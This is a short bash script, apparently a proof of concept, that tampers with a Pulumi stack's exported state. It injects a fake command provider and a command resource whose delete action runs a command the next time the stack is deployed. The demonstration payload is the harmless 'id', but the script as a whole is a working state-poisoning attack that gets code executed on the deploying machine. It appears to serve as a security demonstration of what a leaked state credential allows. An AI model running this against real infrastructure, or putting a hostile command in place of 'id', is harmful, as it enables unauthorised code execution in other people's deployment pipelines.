#!/usr/bin/env bash
# Plants a resource whose `delete` runs a command at the next `up`, which does not know the resource: what a branch
# could do that holds a credential of the state.
#
# usage: plant.sh STACK        with PULUMI_BACKEND_URL and whatever else an attacker holds
set -euo pipefail

stack=${1:?usage: plant.sh STACK}
export PULUMI_SKIP_UPDATE_CHECK=true
pulumi stack export --stack "$stack" |
  jq '("urn:pulumi:\($stack)::oslo-cluster::pulumi:providers:command::planted") as $provider
    | .deployment.resources += [
        {urn: $provider, custom: true, id: "planted", type: "pulumi:providers:command"},
        {urn: "urn:pulumi:\($stack)::oslo-cluster::command:local:Command::planted", custom: true, id: "planted",
         type: "command:local:Command", inputs: {delete: "id"}, outputs: {delete: "id"}, provider: "\($provider)::planted"}]' \
    --arg stack "$stack" |
  pulumi stack import --stack "$stack"
